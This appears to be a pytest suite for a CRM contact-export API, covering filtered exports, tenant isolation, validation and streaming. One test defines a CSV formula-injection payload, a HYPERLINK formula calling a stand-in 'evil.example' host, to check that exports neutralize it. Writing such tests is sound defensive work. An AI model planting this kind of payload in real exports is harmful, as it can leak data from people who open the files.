"""Exporting a selection: a smart list (GET ?smart_list_id=), a search (POST with query and filter), tags;
checked like the search, confined to the caller's location, streamed in keyset batches."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from typing import Any

import httpx
import pytest

from ghl_adapters.container import Container
from ghl_core.contacts.exports import ContactExportService
from ghl_core.contacts.selection import ContactSelection
from ghl_core.shared.errors import ValidationFailed
from ghl_core.tenancy.permissions import Actor
from http_kit import API, Tenant, assert_problem, pointers

EXPORT = f"{API}/contacts/export"


async def add(api: httpx.AsyncClient, tenant: Tenant, **fields: Any) -> dict[str, Any]:
    response = await api.post(f"{API}/contacts", headers=tenant.headers, json=fields)
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def emails(response: httpx.Response) -> list[str]:
    return [r["email"] for r in rows(response)]


async def test_export_a_smart_list_a_search_and_tags(
    api: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
) -> None:
    label = uuid.uuid4().hex[:8]
    # Created in this order; the export keeps it (oldest first) whatever the smart list's sort.
    await add(api, tenant, first_name="Zed", email="zed@example.com", tags=[label, "vip"])
    await add(api, tenant, first_name="Amy", email="amy@example.com", tags=[label])
    await add(
        api,
        tenant,
        first_name="Cal",
        email="cal@example.com",
        company_name="Findme Co",
        tags=[label, "vip", "gold"],
    )
    await add(api, tenant, first_name="Dee", email="dee@example.com")
    saved = await api.post(
        f"{API}/smart-lists",
        headers=tenant.headers,
        json={
            "name": f"vips {label}",
            "filter": {"field": "tags", "operator": "has_all", "value": [label, "vip"]},
            "sort": [{"field": "first_name", "direction": "asc"}],
        },
    )
    assert saved.status_code == 201, saved.text
    smart_id = saved.json()["id"]

    by_list = await api.get(EXPORT, headers=tenant.headers, params={"smart_list_id": smart_id})
    assert emails(by_list) == ["zed@example.com", "cal@example.com"]
    narrowed = await api.get(
        EXPORT, headers=tenant.headers, params={"smart_list_id": smart_id, "tag": "GOLD"}
    )
    assert emails(narrowed) == ["cal@example.com"]
    two_tags = await api.get(EXPORT, headers=tenant.headers, params={"tag": [label, "vip"]})
    assert emails(two_tags) == ["zed@example.com", "cal@example.com"]

    searched = await api.post(
        EXPORT,
        headers=tenant.headers,
        json={"query": "findme", "filter": {"field": "tags", "operator": "has_any", "value": [label]}},
    )
    assert emails(searched) == ["cal@example.com"]
    filtered = await api.post(
        EXPORT,
        headers=tenant.headers,
        json={
            "filter": {
                "or": [
                    {"field": "first_name", "operator": "eq", "value": "amy"},
                    {"field": "email", "operator": "starts_with", "value": "DEE"},
                ]
            }
        },
    )
    assert emails(filtered) == ["amy@example.com", "dee@example.com"]
    # Same columns as the plain export, so a filtered export imports back unchanged.
    everything = await api.get(EXPORT, headers=tenant.headers)
    assert rows(filtered)[0].keys() == rows(everything)[0].keys()
    assert emails(await api.post(EXPORT, headers=tenant.headers, json={})) == emails(everything)
    nobody = await api.post(EXPORT, headers=tenant.headers, json={"query": "no-such-person"})
    assert nobody.status_code == 200
    assert nobody.text.startswith("id,first_name,")
    assert rows(nobody) == []

    # Another location's smart list, or one that does not exist, is not found.
    assert_problem(
        await api.get(EXPORT, headers=other_tenant.headers, params={"smart_list_id": smart_id}), 404
    )
    assert_problem(
        await api.post(EXPORT, headers=other_tenant.headers, json={"smart_list_id": smart_id}), 404
    )
    assert_problem(
        await api.get(EXPORT, headers=tenant.headers, params={"smart_list_id": str(uuid.uuid4())}), 404
    )
    assert_problem(await api.post(EXPORT, headers={}, json={}), 401)


async def test_a_bad_selection_is_422_with_every_pointer(api: httpx.AsyncClient, tenant: Tenant) -> None:
    bad = await api.post(
        EXPORT,
        headers=tenant.headers,
        json={
            "query": "x" * 300,
            "filter": {
                "and": [
                    {"field": "nope", "operator": "eq", "value": 1},
                    {"field": "created_at", "operator": "gt", "value": "yesterday"},
                ]
            },
            "tags": [""],
        },
    )
    body = assert_problem(bad, 422)
    assert pointers(body) == ["/filter/and/0/field", "/filter/and/1/value", "/query", "/tag/value/0"]
    # The body refuses what the export does not take (a sort: an export is always oldest first).
    assert_problem(await api.post(EXPORT, headers=tenant.headers, json={"sort": []}), 422)
    not_an_id = await api.get(EXPORT, headers=tenant.headers, params={"smart_list_id": "nope"})
    assert pointers(assert_problem(not_an_id, 422)) == ["/smart_list_id"]


@pytest.mark.parametrize(
    ("tags", "pointer"),
    [(["a\x00b"], "/tag"), (["x" * 501], "/tag/value/0"), (["vip", "x" * 501], "/tag/value/1")],
    ids=["nul", "one-long-tag", "two-tags"],
)
async def test_a_bad_tag_is_refused_before_the_stream_starts(
    api: httpx.AsyncClient, tenant: Tenant, tags: list[str], pointer: str
) -> None:
    # One tag took a plain table read that checked nothing: ?tag=a%00b answered 200 text/csv, then broke.
    response = await api.get(EXPORT, headers=tenant.headers, params={"tag": tags})

    assert pointers(assert_problem(response, 422)) == [pointer]


async def test_the_export_service_checks_a_single_tag_before_yielding(
    tenant: Tenant, container: Container
) -> None:
    service = ContactExportService(container.uow(), container.clock())

    with pytest.raises(ValidationFailed) as refused:
        await service.export(Actor.operator_at(tenant.location_id), ContactSelection(tags=("a\x00b",)))

    assert [e.pointer for e in refused.value.errors] == ["/tag/value/0"]


async def test_a_searched_export_pages_through_keyset_batches(
    api: httpx.AsyncClient, tenant: Tenant, container: Container
) -> None:
    label = uuid.uuid4().hex[:8]
    made = [await add(api, tenant, email=f"k{i}@example.com", tags=[label]) for i in range(5)]
    await add(api, tenant, email="other@example.com")
    service = ContactExportService(container.uow(), container.clock(), batch_size=2)
    actor = Actor.operator_at(tenant.location_id)
    chunks: list[str] = []
    stream = await service.export(
        actor, ContactSelection(filter={"field": "tags", "operator": "has_any", "value": [label]})
    )
    async for chunk in stream:
        chunks.append(chunk)
        assert len(chunks) < 10, "the export did not advance its cursor"
    # The header, then 2 + 2 + 1 rows: one batch at a time, never the whole selection at once.
    assert [len(list(csv.reader(io.StringIO(c)))) for c in chunks] == [1, 2, 2, 1]
    exported = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert [r["id"] for r in exported] == [c["id"] for c in made]


async def test_an_idempotency_key_never_replays_or_holds_an_export(
    api: httpx.AsyncClient, tenant: Tenant
) -> None:
    """The export only reads: a repeated key exports afresh instead of replaying a stored copy (which
    would also have held the whole stream in memory)."""
    label = uuid.uuid4().hex[:8]
    body = {"filter": {"field": "tags", "operator": "has_any", "value": [label]}}
    headers = {**tenant.headers, "Idempotency-Key": f"export-{label}"}
    await add(api, tenant, email="first@example.com", tags=[label])
    first = await api.post(EXPORT, headers=headers, json=body)
    assert emails(first) == ["first@example.com"]
    await add(api, tenant, email="second@example.com", tags=[label])
    again = await api.post(EXPORT, headers=headers, json=body)
    assert "idempotent-replayed" not in again.headers
    assert emails(again) == ["first@example.com", "second@example.com"]


FORMULA = '=HYPERLINK("https://evil.example/?leak","Click me")'


@pytest.mark.usefixtures("import_worker")  # the import over the API is a job
async def test_cells_a_spreadsheet_would_run_are_exported_as_text_unless_asked(
    api: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
) -> None:
    """CSV (formula) injection: a cell starting with =, +, - or @ gets a leading apostrophe, which
    spreadsheets read as "text"; numbers (E.164 phones) stay as they are; the import takes it off."""
    await add(
        api,
        tenant,
        email="formula@example.com",
        phone="+13125550101",
        first_name="+SUM(1,2)",
        last_name="-2+3",
        company_name=FORMULA,
        city="@cmd",
        source="plain text",
    )

    def formula_row(response: httpx.Response) -> dict[str, str]:
        (row,) = [r for r in rows(response) if r["email"] == "formula@example.com"]
        return row

    for safe in (
        await api.get(EXPORT, headers=tenant.headers),
        await api.post(EXPORT, headers=tenant.headers, json={"query": "formula"}),
    ):
        row = formula_row(safe)
        assert row["company_name"] == "'" + FORMULA
        assert (row["first_name"], row["last_name"], row["city"]) == ("'+SUM(1,2)", "'-2+3", "'@cmd")
        assert (row["phone"], row["source"]) == ("+13125550101", "plain text")
    for raw in (
        await api.get(EXPORT, headers=tenant.headers, params={"neutralize_formulas": "false"}),
        await api.post(EXPORT, headers=tenant.headers, json={}, params={"neutralize_formulas": "false"}),
    ):
        row = formula_row(raw)
        assert (row["company_name"], row["first_name"], row["city"]) == (FORMULA, "+SUM(1,2)", "@cmd")

    # The safe export imports back as it was stored.
    exported = await api.get(EXPORT, headers=tenant.headers)
    started = await api.post(
        f"{API}/contacts/imports",
        headers={**other_tenant.headers, "Content-Type": "text/csv"},
        content=exported.content,
    )
    assert started.status_code == 202, started.text
    for _ in range(200):
        job = (await api.get(started.headers["location"], headers=other_tenant.headers)).json()
        if job["status"] in ("done", "failed"):
            break
        await asyncio.sleep(0.05)
    assert job["counters"]["created"] == 1, job
    (copied,) = (await api.get(f"{API}/contacts", headers=other_tenant.headers)).json()["items"]
    assert (copied["company_name"], copied["first_name"], copied["last_name"], copied["city"]) == (
        FORMULA,
        "+SUM(1,2)",
        "-2+3",
        "@cmd",
    )
